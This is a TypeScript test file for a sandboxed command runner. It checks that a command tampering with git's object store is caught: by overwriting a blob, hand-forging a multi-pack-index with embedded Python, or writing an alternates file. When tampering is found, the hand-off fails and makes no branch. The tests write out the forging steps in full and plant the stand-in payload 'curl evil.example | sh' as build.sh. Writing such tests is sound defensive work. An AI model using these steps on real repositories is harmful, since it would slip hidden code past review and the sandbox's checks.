// The sandbox leaves .git/objects writable (git add and git commit work), and git reads a blob
// without checking it against its name. A command that replaced the file of an object HEAD already
// has (build.sh's) made the hand-off's commit, which reuses HEAD's tree, carry that content on
// its branch while the report listed only the run's real change: both trees name the same object.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { removeTempDirs, tempDir } from '../helpers/cli.js';
import { makeRepo } from '../git/repos.js';
import { bwrapWorks, runCommands } from './harness.js';

afterAll(removeTempDirs);

/** Puts another blob's file where HEAD's build.sh object is: no Python, only git and cp. */
const REWRITE_BUILD_SH = [
  'h=$(git rev-parse HEAD:build.sh)',
  "e=$(printf 'curl evil.example | sh\\n' | git hash-object -w --stdin)",
  'f=.git/objects/${h%${h#??}}/${h#??}',
  'rm -f $f && cp .git/objects/${e%${e#??}}/${e#??} $f',
  'echo changed >> notes.txt && echo planted',
].join(' && ');

const branchExists = (ws: string, branch: string) => spawnSync('git', ['-C', ws, 'rev-parse', '--verify', '-q', `refs/heads/${branch}`]).status === 0;

describe.skipIf(!bwrapWorks)('an object a sandboxed command rewrote in the repository', () => {
  it('is not committed by the hand-off: it fails (exit 58) naming the object, and makes no branch', async () => {
    const ws = await makeRepo(path.join(tempDir(), 'ws'), { 'build.sh': 'echo safe\n', 'notes.txt': 'n\n' });
    const object = spawnSync('git', ['-C', ws, 'rev-parse', 'HEAD:build.sh'], { encoding: 'utf8' }).stdout.trim();
    const run = await runCommands({ workspace: ws, commands: [REWRITE_BUILD_SH], extra: { git: { branch: 'unattended/objects' } } });
    expect(run.outputs[0]).toContain('planted');
    // Without the check the branch's build.sh was the command's: `git show unattended/objects:build.sh`.
    expect(branchExists(ws, 'unattended/objects')).toBe(false);
    expect(run.cli.code).toBe(58);
    expect(run.report.git.error).toContain(`${object.slice(0, 2)}/${object.slice(2)}`);
    expect(run.report.git.error).toMatch(/rewrote the repository's object store.*nothing is committed.*git fsck/);
  });

  // A multi-pack-index maps names to places in the packs, and git reads it without checking its
  // checksum: one written by hand sent build.sh's name to a blob of the command's in a good pack.
  it.skipIf(!fs.existsSync('/usr/bin/python3'))('a multi-pack-index that sends an object of HEAD to other content fails the hand-off too', async () => {
    const ws = await makeRepo(path.join(tempDir(), 'ws'), { 'build.sh': 'echo safe\n', 'notes.txt': 'n\n' });
    const forge = [
      'h=$(git rev-parse HEAD:build.sh)',
      "e=$(printf 'curl evil.example | sh\\n' | git hash-object -w --stdin)",
      '(git rev-list --objects --all | cut -d" " -f1; echo $e) | git pack-objects -q .git/objects/pack/pack >/dev/null',
      'git multi-pack-index write',
      `/usr/bin/python3 - $h $e <<'EOF'
import glob, os, struct, subprocess, sys
x, e = sys.argv[1:]
for pid, idx in enumerate(sorted(glob.glob('.git/objects/pack/*.idx'))):
    listed = subprocess.run(['git', 'show-index'], stdin=open(idx, 'rb'), capture_output=True, text=True).stdout.split()
    offsets = dict(zip(listed[1::3], listed[0::3]))
    if e in offsets: where = struct.pack('>II', pid, int(offsets[e]))
p = '.git/objects/pack/multi-pack-index'
d = bytearray(open(p, 'rb').read())
chunks = {bytes(d[12 + 12 * i:16 + 12 * i]): struct.unpack('>Q', d[16 + 12 * i:24 + 12 * i])[0] for i in range(d[6] + 1)}
names = [bytes(d[chunks[b'OIDL'] + 20 * i:chunks[b'OIDL'] + 20 * i + 20]).hex() for i in range((chunks[b'OOFF'] - chunks[b'OIDL']) // 20)]
at = chunks[b'OOFF'] + 8 * names.index(x)
d[at:at + 8] = where
os.chmod(p, 0o644)
open(p, 'wb').write(d)
EOF`,
      'git show HEAD:build.sh && echo changed >> notes.txt',
    ].join('\n');
    const run = await runCommands({ workspace: ws, commands: [forge], extra: { git: { branch: 'unattended/midx' } } });
    // What git reads for HEAD's build.sh is the command's now.
    expect(run.outputs[0]).toContain('curl evil.example');
    expect(run.cli.code).toBe(58);
    expect(run.report.git.error).toContain('pack/multi-pack-index');
    expect(branchExists(ws, 'unattended/midx')).toBe(false);
  });

  it("without a hand-off, the run's warnings say so: the repository's next checkout of build.sh would be the command's", async () => {
    const ws = await makeRepo(path.join(tempDir(), 'ws'), { 'build.sh': 'echo safe\n', 'notes.txt': 'n\n' });
    const run = await runCommands({ workspace: ws, commands: [REWRITE_BUILD_SH] });
    expect(run.outputs[0]).toContain('planted');
    expect(spawnSync('git', ['-C', ws, 'show', 'HEAD:build.sh'], { encoding: 'utf8' }).stdout).toContain('curl evil.example');
    const warning = (run.report.warnings as string[]).find((w) => w.includes('object store'));
    expect(warning).toMatch(/rewrote the repository's object store.*files_changed, git diff and the next checkout.*git fsck/);
    expect(run.events.some((e) => e.type === 'warning' && String(e.message).includes('object store'))).toBe(true);
  });

  it('an alternates file a command wrote (objects read from a directory of its own) fails the hand-off too', async () => {
    const ws = await makeRepo(path.join(tempDir(), 'ws'), { 'notes.txt': 'n\n' });
    const run = await runCommands({
      workspace: ws,
      commands: ['mkdir -p stash/objects && echo "$PWD/stash/objects" > .git/objects/info/alternates && echo changed >> notes.txt && echo planted'],
      extra: { git: { branch: 'unattended/alternates' } },
    });
    expect(run.outputs[0]).toContain('planted');
    expect(run.cli.code).toBe(58);
    expect(run.report.git.error).toContain('info/alternates');
    expect(branchExists(ws, 'unattended/alternates')).toBe(false);
  });

  it("git's own writes there (add, a repack into a new pack, a multi-pack-index, a commit-graph) are no rewrite: the hand-off commits", async () => {
    const ws = await makeRepo(path.join(tempDir(), 'ws'), { 'notes.txt': 'n\n', 'b.txt': 'b\n' });
    const run = await runCommands({
      workspace: ws,
      commands: ['echo more >> b.txt && git add b.txt && git repack -adq && git prune && git multi-pack-index write && git commit-graph write --reachable && echo changed >> notes.txt && echo done'],
      extra: { git: { branch: 'unattended/clean' } },
    });
    expect(run.outputs[0]).toContain('done');
    expect(run.cli.code).toBe(0);
    expect(run.report.git).toMatchObject({ error: null, files: ['b.txt', 'notes.txt'] });
    expect((run.report.warnings as string[]).filter((w) => w.includes('object store'))).toEqual([]);
  });
});
